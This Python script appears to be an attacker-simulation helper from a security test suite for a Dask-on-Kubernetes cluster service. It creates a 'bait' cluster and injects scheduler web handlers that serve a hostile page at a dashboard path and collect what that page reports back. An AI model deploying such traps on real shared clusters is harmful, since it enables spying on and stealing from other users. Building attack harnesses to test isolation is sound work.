"""What somebody does who has a cluster, and wants what is another's: `mallory.py URL VERB`.

``make`` makes the cluster ``bait`` and replaces a page of it by ``hostile.html``;
``reports`` prints as JSON what that page has told since it was asked last.
"""

from __future__ import annotations

import json
import sys
import time
import urllib.request
from pathlib import Path
from typing import Any

from distributed import Client


def ask(url: str, body: Any = None) -> Any:
    """Return the JSON at an address of our API."""
    data = None if body is None else json.dumps(body).encode()
    headers = {"Authorization": "token mallory-token"}
    request = urllib.request.Request(url, data, headers)
    with urllib.request.urlopen(request, timeout=30) as answer:
        return json.loads(answer.read())


def running(url: str) -> str:
    """Return the scheduler's address once the cluster runs."""
    end = time.monotonic() + 60
    while True:
        cluster = ask(f"{url}/bait")
        if cluster["phase"] == "Running" and not cluster["reason"]:
            return str(cluster["scheduler_address"])
        assert time.monotonic() < end, cluster
        time.sleep(0.2)


def set_trap(page: str, dask_scheduler: Any = None) -> None:
    """Serve a page of our own, and remember what it tells."""
    from tornado.web import RequestHandler

    reports: list[dict[str, str]] = []
    dask_scheduler.reports = reports

    class Page(RequestHandler):
        def get(self) -> None:
            self.write(page)

    class Report(RequestHandler):
        def get(self) -> None:
            reports.append({key: self.get_argument(key) for key in ("what", "result")})

    dask_scheduler.http_application.add_handlers(
        ".*$", [("/individual-task-stream", Page), ("/individual-report", Report)]
    )


def read_reports(dask_scheduler: Any = None) -> list[dict[str, str]]:
    """Take what the page has told."""
    reports = list(dask_scheduler.reports)
    dask_scheduler.reports.clear()
    return reports


def main(base: str, verb: str) -> None:
    """Do what is asked for."""
    url = f"{base}dask-k8s/api/clusters"
    if verb == "make":
        ask(url, {"name": "bait", "workers": 1})
    with Client(running(url), set_as_default=False) as client:
        if verb == "make":
            page = (Path(__file__).parent / "hostile.html").read_text()
            client.run_on_scheduler(set_trap, page)
        else:
            print(json.dumps(client.run_on_scheduler(read_reports)))


if __name__ == "__main__":
    main(*sys.argv[1:])
